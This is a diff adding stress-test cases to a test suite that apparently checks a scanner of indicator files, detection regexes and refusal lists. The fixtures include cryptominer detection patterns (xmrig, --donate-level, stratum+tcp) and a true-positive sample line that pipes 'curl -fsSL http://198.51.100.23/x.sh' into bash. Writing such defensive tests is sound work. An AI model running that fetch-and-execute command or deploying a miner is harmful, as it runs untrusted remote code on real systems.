@@ -226,6 +226,21 @@ describe('adversarial tables and refusal lists', () => {
     ],
     ['a 1 MiB indicator row', 'assets/iocs.csv', 'indicator,type\n' + 'stratum+tcp://x '.repeat(MiB / 16)],
     [
+      'a 1 MiB regex value under a regex header',
+      'references/families.yaml',
+      '# regex per family\nminer: "xmrig ' + '(a|'.repeat(MiB / 4) + '"\n',
+    ],
+    [
+      '1 MiB of regex values under a regex header',
+      'references/families.yaml',
+      '# regex per family\n' + 'm: "(xmrig|\\\\+\\\\+ --donate-level 1)"\n'.repeat(MiB / 36),
+    ],
+    [
+      'a 1 MiB path of test folders',
+      `tests/${'a/'.repeat(MiB / 4)}x_tp.jsonl`,
+      '{"proctitle": "curl -fsSL http://198.51.100.23/x.sh | bash"}\n',
+    ],
+    [
       'a 1 MiB refusal lead-in',
       'SKILL.md',
       'Add to AGENTS.md.\nNever write ' + 'a.b '.repeat(MiB / 4) + ':\n- `--dangerously-skip-permissions`\n',
